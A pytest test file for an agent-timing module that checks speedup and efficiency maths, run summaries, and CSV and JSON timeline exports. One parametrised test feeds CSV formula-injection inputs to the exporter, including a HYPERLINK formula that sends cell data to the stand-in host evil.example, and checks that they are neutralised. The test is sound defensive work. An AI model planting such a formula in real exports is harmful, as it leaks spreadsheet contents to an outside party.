"""Tests for agents.timing: superstep maths, run summaries and exports."""

from __future__ import annotations

import csv
import io
import json
import math

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.durations import format_duration
from agents.timing import (
    CSV_COLUMNS,
    RunSummary,
    SuperstepStats,
    node_calls,
    run_summaries_of_calls,
    superstep_stats_of_calls,
    timeline_csv,
    timeline_json,
)
from tests.factories import T0, node_log_row


def test_four_fully_overlapped_one_second_tasks_give_speedup_four_efficiency_one():
    rows = [node_log_row(i, "research", 0.0, 1.0, label=f"topic {i}") for i in range(4)]

    [stats] = superstep_stats_of_calls(node_calls(rows))

    assert stats.tasks == 4
    assert stats.wall_seconds == pytest.approx(1.0)
    assert stats.summed_seconds == pytest.approx(4.0)
    assert stats.speedup == pytest.approx(4.0)
    assert stats.efficiency == pytest.approx(1.0)


def test_back_to_back_tasks_in_one_step_give_speedup_one():
    rows = [node_log_row(i, "worker", float(i), float(i + 1)) for i in range(3)]

    [stats] = superstep_stats_of_calls(node_calls(rows))

    assert stats.wall_seconds == pytest.approx(3.0)
    assert stats.speedup == pytest.approx(1.0)
    assert stats.efficiency == pytest.approx(1 / 3)


def test_partial_overlap_gives_known_ratios():
    # 2 s and 1 s tasks starting together: wall 2, summed 3.
    rows = [node_log_row(1, "content", 0.0, 2.0), node_log_row(2, "difficulty", 0.0, 1.0)]

    [stats] = superstep_stats_of_calls(node_calls(rows))

    assert (stats.wall_seconds, stats.summed_seconds) == pytest.approx((2.0, 3.0))
    assert stats.speedup == pytest.approx(1.5)
    assert stats.efficiency == pytest.approx(0.75)
    assert stats.nodes == ("content", "difficulty")


def test_zero_wall_superstep_has_speedup_one_not_a_division_error():
    rows = [node_log_row(1, "a", 5.0, 5.0), node_log_row(2, "b", 5.0, 5.0)]

    [stats] = superstep_stats_of_calls(node_calls(rows))

    assert stats.wall_seconds == 0.0
    assert stats.speedup == 1.0
    assert stats.efficiency == 0.5


def test_supersteps_are_grouped_by_run_and_step_in_start_order():
    rows = [
        node_log_row(3, "gate", 10.0, 11.0, step=4, run_id="run-2"),
        node_log_row(1, "validate", 0.0, 1.0, step=1),
        node_log_row(2, "gate", 1.0, 2.0, step=4, status="interrupted"),
    ]

    stats = superstep_stats_of_calls(node_calls(rows))

    assert [(s.run_id, s.step) for s in stats] == [
        ("run-1", 1),
        ("run-1", 4),
        ("run-2", 4),
    ]


def test_open_row_ends_at_latest_time_of_its_own_run_and_is_flagged():
    rows = [
        node_log_row(1, "plan", 0.0, 2.0),
        node_log_row(2, "research", 1.0, None, status="running"),
        node_log_row(3, "later", 100.0, 105.0, run_id="run-2"),
    ]

    calls = {call.id: call for call in node_calls(rows)}
    [first_step] = [s for s in superstep_stats_of_calls(node_calls(rows)) if s.run_id == "run-1"]

    assert calls[2].open and not calls[1].open
    assert calls[2].ended_at == pytest.approx(T0 + 2.0)  # not run-2's 105 s
    assert first_step.open_tasks == 1
    assert first_step.summed_seconds == pytest.approx(2.0 + 1.0)


def test_end_logged_before_start_is_clamped_to_zero_duration():
    [call] = node_calls([node_log_row(1, "skewed", 3.0, 2.5)])

    assert call.duration == 0.0


def test_run_summary_covers_first_start_to_last_end_of_the_run():
    rows = [
        node_log_row(1, "validate", 0.0, 1.0, step=1),
        *[node_log_row(2 + i, "research", 1.0, 3.0, step=2) for i in range(3)],
        node_log_row(5, "write", 3.0, 4.0, step=3, status="error", error="boom"),
    ]

    [summary] = run_summaries_of_calls(node_calls(rows))

    assert summary == RunSummary(
        run_id="run-1",
        agent="lecture",
        thread_id="thread-1",
        started_at=T0,
        ended_at=T0 + 4.0,
        supersteps=3,
        tasks=5,
        wall_seconds=4.0,
        summed_seconds=8.0,
        speedup=2.0,
        efficiency=0.4,
        errors=1,
        interrupted=0,
        open_tasks=0,
        parallel_supersteps=1,
        parallel_efficiency=1.0,
    )


def test_run_summaries_give_one_row_per_run_of_a_resumed_thread():
    rows = [
        node_log_row(1, "propose", 0.0, 1.0, step=1),
        node_log_row(2, "approval", 1.0, 1.5, step=2, status="interrupted"),
        node_log_row(3, "approval", 600.0, 600.5, step=2, run_id="run-2"),
        node_log_row(4, "execute", 600.5, 602.0, step=3, run_id="run-2"),
    ]

    first, second = run_summaries_of_calls(node_calls(rows))

    assert (first.run_id, first.tasks, first.interrupted) == ("run-1", 2, 1)
    assert first.wall_seconds == pytest.approx(1.5)
    assert (second.run_id, second.tasks, second.supersteps) == ("run-2", 2, 2)
    assert second.wall_seconds == pytest.approx(2.0)


def _csv_records(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_starts_with_the_subagent_log_columns_then_ours():
    header = timeline_csv([]).splitlines()[0]

    assert header.split(",")[:4] == [
        "timestamp",
        "event",
        "subagent_name",
        "duration_sec",
    ]
    assert tuple(header.split(",")) == CSV_COLUMNS
    assert header.endswith("agent,thread_id,run_id,node,label,task_id,step,status,error")


def test_csv_has_a_start_and_an_end_line_per_call_in_time_order():
    rows = [
        node_log_row(2, "write", 1.0, 3.25, step=2),
        node_log_row(1, "plan", 0.0, 1.0, step=1),
    ]

    records = _csv_records(timeline_csv(rows))

    assert [(r["event"], r["subagent_name"]) for r in records] == [
        ("START", "plan"),
        ("END", "plan"),  # an END at the same instant precedes the next START
        ("START", "write"),
        ("END", "write"),
    ]
    assert records[0]["timestamp"] == "2025-06-15T15:06:40.000000+00:00"
    assert records[0]["duration_sec"] == ""
    assert float(records[3]["duration_sec"]) == pytest.approx(2.25)
    assert records[3]["step"] == "2"


def test_csv_round_trips_labels_with_commas_quotes_and_korean():
    label = '도입, 개요 "기초" 1/3'
    rows = [
        node_log_row(1, "research", 0.0, 1.5, label=label, status="error", error="bad,\nline"),
    ]

    text = timeline_csv(rows)
    records = _csv_records(text)
    frame = pd.read_csv(io.StringIO(text), keep_default_na=False)

    assert [r["label"] for r in records] == [label, label]
    assert records[1]["subagent_name"] == f"research:{label}"
    assert records[1]["error"] == "bad,\nline"
    assert list(frame.columns) == list(CSV_COLUMNS)
    assert frame["label"].tolist() == [label, label]
    assert frame["event"].tolist() == ["START", "END"]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "-", "@SUM(A1:A9)", "\tx", "\r=1"])
def test_csv_text_a_spreadsheet_would_read_as_a_formula_begins_with_a_quote(text):
    rows = [node_log_row(1, "research", 0.0, 1.5, label=text, status="error", error=text)]

    csv_text = timeline_csv(rows)
    records = _csv_records(csv_text)
    frame = pd.read_csv(io.StringIO(csv_text), keep_default_na=False)

    assert [r["label"] for r in records] == ["'" + text, "'" + text]
    assert records[1]["error"] == "'" + text
    assert records[1]["subagent_name"] == f"research:{text}"  # begins with the node's name: no formula
    assert frame["label"].tolist() == ["'" + text, "'" + text]


def test_csv_numbers_stay_numbers_a_negative_one_too():
    records = _csv_records(timeline_csv([node_log_row(1, "input", 0.0, 1.0, step=-1, label="-5")]))

    assert [(r["step"], r["label"]) for r in records] == [("-1", "-5"), ("-1", "-5")]
    assert records[1]["duration_sec"] == "1.000000"


def test_csv_zero_length_call_keeps_start_before_end():
    records = _csv_records(timeline_csv([node_log_row(1, "instant", 2.0, 2.0)]))

    assert [r["event"] for r in records] == ["START", "END"]
    assert float(records[1]["duration_sec"]) == 0.0


def test_csv_gives_only_a_start_line_for_a_call_with_no_end():
    rows = [
        node_log_row(1, "plan", 0.0, 1.0),
        node_log_row(2, "write", 1.0, None, status="running"),
    ]

    records = _csv_records(timeline_csv(rows))

    assert [(r["event"], r["node"]) for r in records] == [
        ("START", "plan"),
        ("END", "plan"),
        ("START", "write"),
    ]
    assert records[-1]["status"] == "running"


def test_timeline_json_is_serialisable_and_holds_rows_stats_and_runs():
    rows = [
        node_log_row(1, "research", 0.0, 1.0, label="a"),
        node_log_row(2, "research", 0.0, None, label="b", status="running"),
    ]

    payload = timeline_json(rows)
    reloaded = json.loads(json.dumps(payload, allow_nan=False, ensure_ascii=False))

    assert [row["id"] for row in reloaded["rows"]] == [1, 2]
    assert reloaded["rows"][1]["ended_at"] is None
    assert reloaded["rows"][1]["open"] is True
    assert reloaded["rows"][1]["effective_ended_at"] == pytest.approx(T0 + 1.0)
    assert reloaded["supersteps"][0]["nodes"] == ["research"]
    assert reloaded["supersteps"][0]["speedup"] == pytest.approx(2.0)
    assert reloaded["runs"][0]["run_id"] == "run-1"


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0.85, "850 ms"), (4.24, "4.2 s"), (723.0, "12 min 3 s"), (7500.0, "2 h 5 min")],
)
def test_format_duration_reads_naturally(seconds: float, text: str):
    assert format_duration(seconds) == text


# A superstep as hypothesis draws it: tasks with a start offset and a
# strictly positive duration (well-formed rows).
superstep_tasks = st.lists(
    st.tuples(
        st.floats(min_value=0.0, max_value=100.0, allow_nan=False),
        st.floats(min_value=1e-3, max_value=100.0, allow_nan=False),
    ),
    min_size=1,
    max_size=12,
)


@given(st.lists(superstep_tasks, min_size=1, max_size=5))
def test_ratios_stay_within_bounds_for_well_formed_rows(
    steps: list[list[tuple[float, float]]],
):
    rows = [
        node_log_row(100 * step + i, f"node{i}", start, start + duration, step=step)
        for step, tasks in enumerate(steps)
        for i, (start, duration) in enumerate(tasks)
    ]

    stats: list[SuperstepStats] = superstep_stats_of_calls(node_calls(rows))
    [summary] = run_summaries_of_calls(node_calls(rows))

    assert {s.step: s.tasks for s in stats} == dict(enumerate(map(len, steps)))
    for item in [*stats, summary]:
        assert 0.0 < item.efficiency <= 1.0 + 1e-9
        assert item.speedup <= item.tasks * (1 + 1e-9)
        assert math.isclose(item.speedup, item.efficiency * item.tasks)
    assert summary.summed_seconds == pytest.approx(sum(s.summed_seconds for s in stats))
